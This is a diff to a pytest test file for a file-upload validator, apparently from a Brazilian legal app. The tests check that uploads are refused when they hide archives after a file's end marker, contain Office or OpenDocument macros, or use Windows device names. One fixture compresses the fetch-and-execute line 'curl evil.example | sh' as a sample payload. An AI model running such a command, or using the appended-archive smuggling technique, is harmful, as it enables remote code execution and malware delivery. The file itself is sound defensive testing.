@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import struct
 import zipfile
@@ -16,6 +17,9 @@ XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
 ODT = "application/vnd.oasis.opendocument.text"
 ODS = "application/vnd.oasis.opendocument.spreadsheet"
+
+
+IEND = b"\x00\x00\x00\x00IEND\xaeB`\x82"
 
 
 def archive(*members: tuple[str, str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
@@ -56,9 +60,9 @@ def refusal(content: bytes, name: str = "arquivo.docx") -> str:
 @pytest.mark.parametrize(
     ("head", "name", "expected"),
     [
-        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a.bin", "application/pdf"),
-        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "scan.pdf", "image/png"),
-        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "foto.jpg", "image/jpeg"),
+        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n%%EOF\n", "a.bin", "application/pdf"),
+        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + IEND, "scan.pdf", "image/png"),
+        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\xff\xd9", "foto.jpg", "image/jpeg"),
         ("Procuração ad judicia\n".encode(), "nota.txt", "text/plain"),
         ("# Notas da audiência\n".encode(), "notas.md", "text/plain"),
     ],
@@ -355,7 +359,7 @@ def test_a_trailing_dot_does_not_hide_the_extension() -> None:
 # --- an archive carried inside another file -------------------------------------------
 
 JAR = archive(("META-INF/MANIFEST.MF", "Main-Class: Main\n"), ("Main.class", "\xca\xfe"))
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + IEND
 PDF = b"%PDF-1.7\n" + b"1 0 obj << >> endobj\n" * 50 + b"%%EOF\n"
 CARRIES = "The file carries an archive inside: a ZIP (or JAR) is appended to its content."
 
@@ -374,7 +378,193 @@ def test_a_file_with_an_archive_appended_is_refused(content: bytes, name: str) -
     assert refusal(content, name) == CARRIES
 
 
-def test_an_archive_record_before_the_last_64_kib_is_not_looked_for() -> None:
-    # A ZIP reader (java -jar too) finds the end record only within the tail.
-    content = PDF + JAR + b"\n" * (0xFFFF + 22)
-    assert sniff(content, "peticao.pdf") == "application/pdf"
+def test_an_archive_beyond_the_last_64_kib_is_data_after_the_end() -> None:
+    # A ZIP reader (java -jar too) finds the end record only within the tail; 7-Zip
+    # looks further, and the PDF's end says where the payload starts.
+    padding = b"\n" * 70_000
+    assert refusal(PDF + JAR + padding, "peticao.pdf") == (
+        # the PDF's own newline after %%EOF counts too
+        f"The file has data after its end ({1 + len(JAR) + len(padding)} bytes): "
+        "a PDF ends with its last “%%EOF”."
+    )
+
+
+# --- data after the end a format marks ------------------------------------------------
+
+RAR5 = b"Rar!\x1a\x07\x01\x00" + bytes(range(40)) + b"\x1dwQ\x03\x05\x04\x00"
+SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(24))
+GZIP = gzip.compress(b"#!/bin/sh\ncurl evil.example | sh\n", mtime=0)
+# A ZIP's local entries without its central directory, as a streaming unzipper reads them.
+ZIP_ENTRIES = JAR[: JAR.find(b"PK\x01\x02")]
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
+GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00;"
+WEBP = b"RIFF\x0c\x00\x00\x00WEBPVP8 \x00\x00\x00\x00"
+RTF = b"{\\rtf1\\ansi Procura\\'e7\\'e3o\\par}"
+
+
+def after_end(n: int, kind: str, marker: str) -> str:
+    return f"The file has data after its end ({n} bytes): {kind} ends with {marker}."
+
+
+PDF_END = ("a PDF", "its last “%%EOF”")
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "payload", "kind", "marker"),
+    [
+        (PDF, "peticao.pdf", RAR5, *PDF_END),
+        (PDF, "peticao.pdf", SEVEN_ZIP, *PDF_END),
+        (PDF, "peticao.pdf", GZIP, *PDF_END),
+        (PDF, "peticao.pdf", ZIP_ENTRIES, *PDF_END),
+        (PDF, "peticao.pdf", b"\n" * 1025, *PDF_END),  # more padding than is allowed
+        (PNG, "foto.png", RAR5, "a PNG image", "its IEND chunk"),
+        (PNG, "foto.png", SEVEN_ZIP + IEND, "a PNG image", "its IEND chunk"),  # the first counts
+        (JPEG, "foto.jpg", SEVEN_ZIP, "a JPEG image", "the marker FFD9"),
+        (GIF, "foto.gif", GZIP[:10], "a GIF image", "the byte 3B"),
+        (WEBP, "foto.webp", RAR5, "a WebP image", "where its RIFF header says"),
+        (RTF, "carta.rtf", RAR5, "an RTF document", "“}”"),
+    ],
+    ids=[
+        "pdf-rar",
+        "pdf-7z",
+        "pdf-gzip",
+        "pdf-zip-entries",
+        "pdf-padding",
+        "png-rar",
+        "png-second-iend",
+        "jpeg-7z",
+        "gif-gzip",
+        "webp-rar",
+        "rtf-rar",
+    ],
+)
+def test_data_after_the_formats_end_is_refused(
+    content: bytes, name: str, payload: bytes, kind: str, marker: str
+) -> None:
+    sniff(content, name)  # without the payload, the file is accepted
+    n = len(payload) + (content == PDF)  # the PDF's newline after %%EOF counts too
+    assert refusal(content + payload, name) == after_end(n, kind, marker)
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "expected"),
+    [
+        (PDF + b"\r\n\x00 \t" + b"\n" * 1000, "peticao.pdf", "application/pdf"),
+        # an incremental update: a section appended after the first %%EOF, with its own
+        (PDF + b"2 0 obj << >> endobj\nstartxref\n9\n%%EOF\r\n", "peticao.pdf", "application/pdf"),
+        (PNG, "foto.png", "image/png"),
+        (JPEG + b"\xff\xd8" + JPEG[2:], "foto.jpg", "image/jpeg"),  # a second picture (MPF)
+        (GIF, "foto.gif", "image/gif"),
+        (WEBP, "foto.webp", "image/webp"),
+        (RTF + b"\r\n\x00", "carta.rtf", "application/rtf"),
+        (b"II*\x00\x08\x00\x00\x00" + b"\x00" * 20 + RAR5, "scan.tif", "image/tiff"),
+    ],
+    ids=["pdf-padding", "pdf-update", "png", "jpeg-two", "gif", "webp", "rtf", "tiff"],
+)
+def test_a_file_ending_where_its_format_says_is_accepted(
+    content: bytes, name: str, expected: str
+) -> None:
+    # A TIFF has no end marker: its directories are found by offsets, so it is not checked.
+    assert sniff(content, name) == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "kind", "marker"),
+    [
+        (b"%PDF-1.7\n" + RAR5, "peticao.pdf", *PDF_END),
+        (PNG[:-12] + RAR5, "foto.png", "a PNG image", "its IEND chunk"),
+        (WEBP[:-2], "foto.webp", "a WebP image", "where its RIFF header says"),
+    ],
+    ids=["pdf", "png", "webp"],
+)
+def test_a_file_without_its_end_is_refused(
+    content: bytes, name: str, kind: str, marker: str
+) -> None:
+    assert refusal(content, name) == (
+        f"The file is incomplete: {kind} ends with {marker}, and it has none."
+    )
+
+
+def test_text_is_text_throughout() -> None:
+    text = "Ata da reunião\n".encode() * 1000
+    assert sniff(text, "ata.txt") == "text/plain"
+    assert refusal(text + RAR5, "ata.txt") == (
+        f"The file starts as plain text but has binary data from byte {len(text) + 7} on."
+    )
+
+
+# --- macros, whatever their part is called --------------------------------------------
+
+MACRO_TYPES = [
+    '<Override PartName="/word/m.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+    '<Override PartName="/word/document.xml" '
+    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+    '<Override PartName="/word/d.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
+    '<Override PartName="/word/c/c1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
+]
+
+
+@pytest.mark.parametrize("declared", MACRO_TYPES, ids=["vba", "default", "main", "data", "activex"])
+def test_an_office_file_declaring_a_macro_type_is_refused(declared: str) -> None:
+    content = archive(
+        ("[Content_Types].xml", f"<Types>{declared}</Types>"),
+        ("word/document.xml", "<w:document/>"),
+        ("word/m.bin", "\xd0\xcf\x11\xe0"),
+    )
+    assert (
+        refusal(content) == "Files of this kind are not accepted: an Office document with macros."
+    )
+
+
+def test_a_list_of_content_types_too_long_to_read_is_refused() -> None:
+    content = archive(
+        ("[Content_Types].xml", "<Types>" + " " * (1 << 20) + "</Types>"),
+        ("word/document.xml", "<w:document/>"),
+    )
+    assert refusal(content) == (
+        "Files of this kind are not accepted: "
+        "an Office document whose list of content types is too long."
+    )
+
+
+@pytest.mark.parametrize("member", ["Basic/Standard/Module1.xml", "Scripts/python/run.py"])
+def test_an_opendocument_file_with_macros_is_refused(member: str) -> None:
+    content = archive(
+        ("mimetype", ODT),
+        ("content.xml", "<office:document-content/>"),
+        (member, "<script:module/>"),
+        ("META-INF/manifest.xml", "<manifest:manifest/>"),
+    )
+    assert refusal(content, "parecer.odt") == (
+        "Files of this kind are not accepted: an OpenDocument file with macros."
+    )
+
+
+# --- names Windows keeps for devices --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "device"),
+    [
+        ("CON.pdf", "CON"),
+        ("con", "CON"),
+        ("Prn.tar.gz", "PRN"),
+        ("aux .txt", "AUX"),
+        ("NUL.docx", "NUL"),
+        ("com1.pdf", "COM1"),
+        ("LPT9.jpg", "LPT9"),
+    ],
+)
+def test_windows_device_names_are_refused(name: str, device: str) -> None:
+    with pytest.raises(InvalidValue) as refused:
+        clean_file_name(name)
+    assert (refused.value.field, refused.value.message) == (
+        "file",
+        f"The file name starts with {device}, which Windows keeps for a device; rename it.",
+    )
+
+
+@pytest.mark.parametrize("name", ["console.pdf", "contrato.pdf", "COM10.pdf", "nulidade.docx"])
+def test_names_that_only_start_like_a_device_are_kept(name: str) -> None:
+    assert clean_file_name(name) == name
